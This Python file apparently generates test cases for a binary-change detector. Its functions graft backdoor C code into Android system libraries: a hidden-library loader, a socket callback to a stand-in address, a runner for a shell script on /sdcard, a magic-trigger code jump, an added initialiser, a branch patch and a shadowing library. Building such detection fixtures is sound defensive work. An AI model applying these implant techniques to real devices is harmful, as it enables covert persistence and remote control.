"""Native libraries and programs: code grafted into what was there."""
import re
import struct

import native
import tree
from plants import Sees, plant, word

OUTSIDE = "extern {shape} __attribute__((visibility(\"hidden\")));\n"
SHAPES = {"dlopen": "void *(*slot_dlopen)(const char *, int)", "access": "int (*slot_access)(const char *, int)", "system": "int (*slot_system)(const char *)",
          "socket": "int (*slot_socket)(int, int, int)", "connect": "int (*slot_connect)(int, const void *, unsigned)", "send": "long (*slot_send)(int, const void *, unsigned long, int)",
          "memset": "void *(*slot_memset)(void *, int, unsigned long)", "dlsym": "void *(*slot_dlsym)(void *, const char *)", "time": "long (*slot_time)(long *)",
          "close": "int (*slot_close)(int)"}


def outside(*names):
    return "".join(OUTSIDE.format(shape=SHAPES[name]) for name in names)


LOADER = outside("dlopen", "dlsym", "access") + """
void planted(void) {
  if (slot_access("/data/local/.p/libp.so", 0) != 0) return;
  void *library = slot_dlopen("/data/local/.p/libp.so", 2);
  void (*run)(void) = library ? slot_dlsym(library, "run") : 0;
  if (run) run();
}
"""
SENDER = outside("socket", "connect", "send", "close", "memset", "time") + """
void planted(void) {
  unsigned char to[16];
  slot_memset(to, 0, 16);
  to[0] = 2; to[2] = 0x1f; to[3] = 0x90; to[4] = 203; to[5] = 0; to[6] = 113; to[7] = 9;
  long now = slot_time(0);
  if (now % 7) return;
  int s = slot_socket(2, 1, 0);
  if (slot_connect(s, to, 16) == 0) slot_send(s, &now, 8, 0);
  slot_close(s);
}
"""
COMMAND = outside("system", "access") + """
void planted(void) { if (slot_access("/sdcard/.q", 0) == 0) slot_system("sh /sdcard/.q"); }
"""
# Needs nothing from outside: what changes is only code, a counter in the caller's data.
SILENT = """
static unsigned mix(const unsigned char *p, unsigned n) { unsigned h = 5381; for (unsigned i = 0; i < n; i++) h = h * 33 ^ p[i]; return h; }
void planted(const unsigned char *text) { if (text && mix(text, 8) == 0x1badf00d) { void (*run)(void) = (void (*)(void))(text + 16); run(); } }
"""


def libraries(site):
    return [p for p in sorted(site.files) if p.startswith("system/lib64/") and p.endswith(".so")]


def grafted(site, names, source, imports, fresh=frozenset(), **how):
    """Into the first of the named libraries, or of all, that takes it and has no import of `fresh` yet; the library's path."""
    paths = [p for p in libraries(site) if not names or p.rsplit("/", 1)[-1] in names]
    for path in paths:
        data = site.files[path].data
        try:
            if fresh and fresh & {name for name, _, _, _ in native.Elf64(data).symbols()}:
                continue
            site.files.write(path, native.graft(data, source, imports, **how))
            return path
        except (ValueError, KeyError, IndexError, StopIteration, struct.error):
            continue
    raise KeyError("no library takes the graft")


@plant("function in a library", "blu")
def function_called_from_old_one(site):
    """A function in a system library, called from an existing one, loads another library when a file is there."""
    path = grafted(site, ("libhardware.so", "liblogwrap.so"), LOADER, ["dlopen", "dlsym", "access"])
    return Sees("native_function_added", word(path.rsplit("/", 1)[-1]))


@plant("function in a library", "blu", quiet=True)
def function_without_imports(site):
    """A function in a system library, called from an existing one, that needs nothing from outside: it runs what a secret text carries."""
    path = grafted(site, ("liblogwrap.so",), SILENT, [])
    return Sees("native_function_added", word(path.rsplit("/", 1)[-1]))


@plant("imports of a library", "blu")
def library_opens_socket(site):
    """A library that had nothing to do with the network connects to an address and sends."""
    path = grafted(site, (), SENDER, ["socket", "connect", "send", "close", "memset", "time"], {"socket", "connect"})
    return Sees("native_function_added|native_import_added", word(path.rsplit("/", 1)[-1]), "socket|connect|network|send")


@plant("imports of a library", "blu", quiet=True)
def library_runs_command(site):
    """A library runs a command of the shell."""
    path = grafted(site, (), COMMAND, ["system", "access"], {"system", "execv", "popen"})
    return Sees("native_function_added|native_import_added|power_gained", word(path.rsplit("/", 1)[-1]), "system|command")


@plant("initialiser", "blu", quiet=True)
def initialiser_added(site):
    """Code of a library runs whenever it is loaded: one more entry in its table of initialisers, no function changed."""
    path = grafted(site, ("libhardware.so",), LOADER, ["dlopen", "dlsym", "access"], hook=False, initialiser=True)
    return Sees("native_start_added", word(path.rsplit("/", 1)[-1]))


@plant("jump patched", "blu", quiet=True)
def jump_patched(site):
    """Four bytes: a jump of an exported function goes elsewhere in the same library."""
    path = next(p for p in libraries(site) if p.endswith("/liblogwrap.so"))
    elf = native.Elf64(site.files[path].data)
    place, address, _, _ = native.a_call(elf)
    names = [row for row in elf.symbols() if row[3] and row[2] > 16]
    target = min(names, key=lambda row: row[2])[1]
    struct.pack_into("<I", elf.data, place, 0b100101 << 26 | (target - address) // 4 & 0x3FFFFFF)
    site.files.write(path, bytes(elf.data))
    return Sees("native_code_changed|native_call_changed", word("liblogwrap.so"))


@plant("library in the path", "blu", quiet=True)
def library_in_search_path(site):
    """A second library under an old name, in the folder that is searched first."""
    source = next(p for p in libraries(site) if p.endswith("/libhardware.so"))
    site.files["system/vendor/lib64/libhardware.so"] = tree.Entry(native.with_build_id(site.files[source].data, site.rng))
    return Sees("file_added|library_shadowed", word("/vendor/lib64/libhardware.so"))
